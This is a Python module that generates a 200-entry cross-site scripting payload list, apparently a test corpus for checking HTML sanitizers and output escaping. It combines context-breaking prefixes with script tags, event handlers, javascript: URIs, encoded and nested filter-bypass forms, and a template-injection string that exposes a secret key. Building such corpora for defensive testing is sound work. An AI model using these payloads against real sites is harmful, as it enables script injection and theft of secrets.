"""Two hundred texts that try to run as script, made from the known ways out of each context of a page.

Source: the contexts of the OWASP cheat sheet on filter evasion; every one calls `xss()` if it runs.
"""

from itertools import product

_ESCAPES = ("", '"', "'", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>")
_ELEMENTS = (
    "<script>xss()</script>",
    "<ScRiPt>xss()</sCrIpT>",
    "<img src=x onerror=xss()>",
    "<svg/onload=xss()>",
    "<svg><script>xss()</script>",
    "<body onload=xss()>",
    "<iframe src=javascript:xss()>",
    "<details open ontoggle=xss()>",
    "<input autofocus onfocus=xss()>",
    "<math><mi xlink:href=javascript:xss()>",
    "<a href=javascript:xss()>a</a>",
    "<a href='&#106;avascript:xss()'>a</a>",
    "<object data=javascript:xss()>",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    "<style>@import 'javascript:xss()';</style>",
    "<img src=x:x onerror=\u0009xss()>",
    "<x onclick=xss()>",
    "<form action=javascript:xss()><button>",
)
_PLAIN = (
    "javascript:xss()",
    "data:text/html,<script>xss()</script>",
    "{{ xss() }}",
    "{% debug %}{{ settings.SECRET_KEY }}",
    "${xss()}",
    "' onmouseover=xss() x='",
    '" onmouseover=xss() x="',
    "` onmouseover=xss()",
    "\u2028xss()",
    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "%3Cscript%3Exss()%3C/script%3E",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;script&#62;xss()&#60;/script&#62;",
    "\uff1cscript\uff1exss()\uff1c/script\uff1e",
    "<!--<script>xss()</script>-->",
    "<![CDATA[<script>xss()</script>]]>",
    "hx-on:click=xss()",
    "' hx-get='javascript:xss()' x='",
    '=HYPERLINK("javascript:xss()")',
    "<scr<script>ipt>xss()</scr</script>ipt>",
)
PAYLOADS: tuple[str, ...] = (*_PLAIN, *("".join(pair) for pair in product(_ESCAPES, _ELEMENTS)))[:200]
assert len(set(PAYLOADS)) == 200
